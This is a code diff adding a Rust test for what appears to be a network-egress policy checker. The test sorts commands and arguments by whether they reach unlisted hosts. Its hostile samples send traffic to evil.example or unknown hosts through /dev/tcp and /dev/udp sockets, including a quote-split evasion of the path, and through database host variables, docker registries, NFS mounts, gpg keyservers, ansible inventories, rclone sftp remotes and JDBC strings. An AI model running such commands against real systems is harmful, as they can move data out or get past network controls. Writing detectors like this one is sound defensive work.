@@ -519,3 +519,95 @@ fn a_host_may_be_made_of_two_arguments() {
     assert_hostile(&network, &paths.map(|path| json!({"base_url": "https://8.8.8.8", "path": path})));
     assert_honest(&network, &[json!({"base_url": "https://8.8.8.8", "path": "//8.8.4.4/a"})]);
 }
+
+#[test]
+fn hosts_in_variables_sockets_and_addresses_of_several_schemes_are_found() {
+    let hostile = [
+        "PGHOST=evil.example psql x",
+        "PGHOST=db1 psql x",
+        "A='x y' PGHOST=db1 psql x",
+        "PGHOST+=evil.example psql x",
+        "env PGHOST=evil.example psql x",
+        "MYSQL_HOST=db1 ./run",
+        "REDIS_SERVER=db1 ./run",
+        "sh -c 'echo > /dev/tcp/evil.example/443'",
+        "sh -c 'exec 3<>/dev/udp/1.2.3.4/53'",
+        "echo x > /dev/tcp/evil.example/443",
+        "sh -c 'echo > /dev/t\"\"cp/db1/80'",
+        "docker pull db1:443/x",
+        "docker run db1:443/x",
+        "podman push localhost:5000/x",
+        "mongo db1:443/x",
+        "mount evil.example:/x /y",
+        "mount -t nfs db1:/x /y",
+        "mount -t cifs //db1/x /y",
+        "showmount -e evil.example",
+        "showmount -e db1",
+        "gpg --keyserver evil.example --recv x",
+        "gpg --keyserver hkps://evil.example --recv x",
+        "ansible -i evil.example, all -m ping",
+        "ansible-playbook -idb1,db2 site.yml",
+        "ansible --inventory=db1, all",
+        "rclone copy x :sftp,host=evil.example:y",
+        "rclone ls :sftp,user=a,host=db1:",
+        "rclone ls remote,host=evil.example:x",
+    ];
+    assert_hostile(&limited(), &hostile.map(|line| json!({"command": line})));
+    let dsn = [
+        "jdbc:sqlserver://evil.example:1433;databaseName=x",
+        "jdbc:sqlserver://evil.example;databaseName=x",
+        "jdbc:sqlserver://db1:1433;databaseName=x",
+        "jdbc:postgresql://evil.example:5432/x?a=b",
+        "jdbc:one:two://evil.example;x=y",
+        "PGHOST=evil.example",
+    ];
+    let hostile: Vec<Value> =
+        dsn.iter().flat_map(|text| ["q", "dsn", "jdbc", "x", "url"].map(|key| json!({key: text}))).collect();
+    assert_hostile(&limited(), &hostile);
+    assert_hostile(
+        &limited(),
+        &[
+            json!({"env": ["PGHOST=evil.example"]}),
+            json!({"env": ["PGHOST=db1"]}),
+            json!({"env": "A=1 PGHOST=evil.example"}),
+            json!({"config": "server=db1"}),
+            json!({"config": "a=b;server=db1"}),
+        ],
+    );
+    let honest = [
+        "PGHOST=ok.example.com psql x",
+        "PGHOST=/var/run/postgresql psql x",
+        "env PGHOST=ok.example.com psql x",
+        "LANG=C ls",
+        "NO_PROXY=evil.example curl https://ok.example.com",
+        "echo x > /dev/null",
+        "sh -c 'echo > /dev/tcp/ok.example.com/443'",
+        "docker run -p 80:80 -v a:/b ubuntu",
+        "docker pull library/ubuntu:22.04",
+        "docker pull ok.example.com/x",
+        "docker pull ok.example.com:443/x",
+        "mount /dev/sda1 /mnt",
+        "mount -o bind /a /b",
+        "mount ok.example.com:/x /y",
+        "showmount -e ok.example.com",
+        "gpg --verify x.sig x",
+        "gpg --output a.txt --decrypt a.gpg",
+        "ansible -i inventory.ini all -m ping",
+        "ansible -i hosts web -m ping",
+        "rclone copy x remote:y",
+        "rclone ls :sftp,host=ok.example.com:y",
+    ];
+    assert_honest(&limited(), &honest.map(|line| json!({"command": line})));
+    assert_honest(
+        &limited(),
+        &[
+            json!({"dsn": "jdbc:sqlserver://ok.example.com:1433;databaseName=x"}),
+            json!({"env": ["PGHOST=ok.example.com", "LANG=C"]}),
+            json!({"filter": "host=web"}),
+            json!({"label_selector": "server=db1"}),
+            json!({"where": "server = 'db1'"}),
+            json!({"labels": "node=worker"}),
+            json!({"config": "color=red"}),
+        ],
+    );
+}
